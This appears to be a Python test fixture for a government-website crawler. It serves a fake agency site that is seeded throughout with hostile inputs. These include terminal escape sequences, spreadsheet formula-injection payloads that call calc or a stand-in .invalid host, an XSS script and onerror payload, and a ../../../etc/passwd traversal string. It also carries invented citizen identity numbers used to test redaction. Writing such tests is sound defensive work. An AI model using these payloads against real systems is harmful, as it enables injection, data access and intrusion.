"""An agency whose site says whatever could hurt a reader or expose a citizen, crawled for real, twice.

Its words steer terminals, begin like formulas, carry markup and letters that nobody sees, and name a citizen wherever
a page can name one. The region and the agency are called accordingly.
"""

from __future__ import annotations

from sqlalchemy import select, update

from crawler.cli.common import utc_now
from crawler.crawl import crawl_sites
from crawler.job import CrawlOptions
from crawler.scoring import score_newest
from local_sites import FILLER, LocalSite, Reply, Street
from made_documents import docx, paragraph, word_table
from reported_regions import RUBRIC
from storage import models
from storage.database import Database
from storage.invented import InventedRegion, enter_regions
from storage.models import RegionLevel, TimeZone
from storage.models.base import table_of
from storage.sites import adhoc_site

NIK = "5310011203850002"
GROUPED_NIK = "5310 0112 0385 0002"
MOBILE = "0812-7731-9055"
CITIZEN = "Wilhelmina Tandaweri"
PRIVATE = (NIK, GROUPED_NIK, MOBILE, "Wilhelmina", "Tandaweri")
"""What nobody may read in anything that we hand out."""
OFFICE = "0811-2222-3333"
"""What everybody may: the office gives it for complaints."""
STEERING = "\x1b]0;dibajak\x07\x1b[31m\x1b[2J\u009b31m\u202e\u2066\u200b\ufeff\x08\u2028"
"""Sets a terminal's title and colours and clears it, in seven bits and eight; turns lines around; cannot be seen."""
FORMULAS = (
    '=HYPERLINK("http://slot.invalid/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=WEBSERVICE("http://slot.invalid/")',
)
MARKUP = "<script>window.hit=1</script><img src=//slot.invalid/x onerror=window.hit=2>"
_AS_TEXT = MARKUP.replace("<", "&lt;")
AGENCY_NAME = f"={STEERING}Dinas {MARKUP} ../../../etc/passwd\\..\\con"
REGION_NAME = f'@../..\\Kabupaten {STEERING}{MARKUP}: "Contoh" | *'
CODE = "99.10"
_WHO = f"Pelapor: {CITIZEN}, NIK {NIK}, HP warga {MOBILE}"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def _standard(number: int) -> str:
    """One service whose every value begins like a formula and names the citizen."""
    formula = FORMULAS[number % len(FORMULAS)]
    said = f"{formula} {STEERING}{_AS_TEXT}"
    long = "Berkas yang lengkap diterima petugas loket dan diperiksa pada hari yang sama. " * 2
    return (
        f"<h1>Standar Pelayanan Penerbitan Akta {number} {said} NIK {NIK}</h1>"
        f"<h3>Persyaratan</h3><ul><li>{formula} fotokopi KTP, contoh {GROUPED_NIK}</li><li>{said} {_WHO}</li></ul>"
        f"<h3>Prosedur</h3><ol><li>{said} Pemohon mengambil nomor. {_WHO}</li><li>Petugas memeriksa berkas</li></ol>"
        f"<h3>Jangka waktu penyelesaian</h3><p>{long}{_WHO} {long} 3 hari kerja</p>"
        f"<h3>Biaya/Tarif</h3><p>{formula} Gratis {said} {_WHO}</p>"
        f"<h3>Produk pelayanan</h3><p>{said} Akta Kelahiran. {_WHO}</p>"
        f"<h3>Dasar hukum</h3><p>{formula} Undang-Undang Nomor 24 Tahun 2013 {said} {_WHO}</p>"
        f"<h3>Penanganan pengaduan</h3><p>{formula} Loket pengaduan, petugas {said}. {_WHO}</p>"
    )


def _page(title: str, body: str) -> Reply:
    head = f"<title>{title} {STEERING}{_AS_TEXT} {_WHO}</title><meta name=description content='NIK {NIK}'>"
    return Reply(f"<!doctype html><html lang=id><head>{head}</head><body>{body}<p>{FILLER}</p></body></html>".encode())


def _home() -> Reply:
    links = "".join(
        f"<li><a href='/layanan/{number}'>{formula} Standar Pelayanan {number} {STEERING} NIK {NIK}</a></li>"
        for number, formula in enumerate(FORMULAS)
    )
    pledge = (
        f"<h2>Maklumat Pelayanan</h2><p>={STEERING}Dengan ini kami menyatakan sanggup menyelenggarakan pelayanan "
        f"sesuai standar pelayanan dan siap menerima sanksi. {_WHO}</p>"
    )
    complaints = (
        f"<h2>Pengaduan {STEERING}</h2><p>WhatsApp pengaduan: {OFFICE}. Pejabat pengelola: Kepala Bidang</p>"
        f"<p>={STEERING}Contoh aduan. {_WHO}. Dilaporkan oleh {CITIZEN} pada Senin.</p><p>Ibu {CITIZEN} melaporkan "
        f"antrean lewat <a href='https://www.lapor.go.id/'>SP4N-LAPOR! {STEERING}Pelapor: {CITIZEN}</a></p>"
    )
    spam = f"<a href='http://slot-gacor.invalid/?nik={NIK}'>={STEERING}Slot Gacor Maxwin {_AS_TEXT} {_WHO}</a>"
    word = f"<a href='/sk.docx'>SK Standar Pelayanan {NIK}</a>"
    return _page("@Dinas", f"<h1>={STEERING}Dinas Contoh</h1><ul>{links}</ul>{word}{pledge}{complaints}{spam}")


def serve(street: Street, host: str = "127.0.4.1") -> LocalSite:
    """Start the site."""
    values = (("Persyaratan", f"=1+1 fotokopi KTP {NIK}"), ("Biaya/Tarif", f"=1+1 Gratis, pelapor: {CITIZEN}"))
    word = docx(paragraph(f"Standar Pelayanan KTP {NIK}", "Heading1") + word_table(values))
    routes = {f"/layanan/{number}": _page(f"=1+{number}", _standard(number)) for number in range(len(FORMULAS))}
    routes |= {"/": _home(), "/sk.docx": Reply(word, content_type=_WORD_TYPE)}
    return street.serve(routes, host=host)


def crawl_twice(db: Database, site: LocalSite) -> None:
    """Enter the agency under its names, crawl it twice with a change between, score it each time."""
    invented = [
        InventedRegion("99", "Contoh Raya", RegionLevel.PROVINCE, TimeZone.WITA, None, -4.25, 120.95),
        InventedRegion(CODE, REGION_NAME, RegionLevel.REGENCY, TimeZone.WITA, "99", -4.7, 120.7),
    ]
    enter_regions(db, invented)
    row = adhoc_site(db, site.url)
    with db.writing() as connection:
        owner = select(models.Site.agency_id).where(models.Site.id == row.site_id).scalar_subquery()
        named = update(table_of(models.Agency)).where(models.Agency.id == owner)
        connection.execute(named.values(name=AGENCY_NAME, region_code=CODE))
    options = CrawlOptions(
        max_pages=20, delay=0.0, timeout=5.0, allow_private=True, log_level="CRITICAL", max_scans=0, max_rendered=0
    )
    for gone in ("/layanan/1", "/layanan/2"):
        crawl_sites(db, [row], options, utc_now)
        score_newest(db, RUBRIC)
        site.routes.pop(gone)
